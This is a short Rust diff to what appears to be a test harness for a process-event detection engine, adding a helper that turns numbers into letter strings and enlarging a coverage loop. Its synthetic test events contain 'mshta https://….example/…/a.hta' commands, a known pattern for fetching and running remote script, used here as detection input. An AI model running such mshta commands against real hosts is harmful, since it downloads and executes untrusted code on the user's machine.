@@ -60,6 +60,17 @@ fn start(
     )
 }
 
+fn letters(mut n: u64) -> String {
+    let mut s = String::new();
+    loop {
+        s.push((b'a' + (n % 26) as u8) as char);
+        n /= 26;
+        if n == 0 {
+            return s;
+        }
+    }
+}
+
 fn guid(n: u64) -> String {
     format!("{{11111111-0000-0000-0000-{n:012x}}}")
 }
@@ -132,7 +143,8 @@ fn run(case: &str, n: u64) -> Option<String> {
         "shapes" => {
             let mut e = Engine::new(cfg).ok()?;
             let lines = (0..n).map(|i| {
-                let cmd = format!("mshta https://h{i}.example/p{}/a{i}.hta", "x".repeat((i % 7) as usize));
+                // Distinct letters (digits would be normalised into one shape).
+                let cmd = format!("mshta https://{}.example/{}/a.hta", letters(i), letters(i * 7 + 3));
                 start(
                     "PC1",
                     T0 + i as i64 * 10,
@@ -206,7 +218,7 @@ fn run(case: &str, n: u64) -> Option<String> {
         }
         "coverage" => {
             let mut text = String::new();
-            for h in 0..20 {
+            for h in 0..10_050 {
                 let _ =
                     writeln!(text, "{}", start(&format!("H{h}"), T0, &guid(h + 5), h + 5, CMD, "x", &guid(0), 1, CMD));
             }
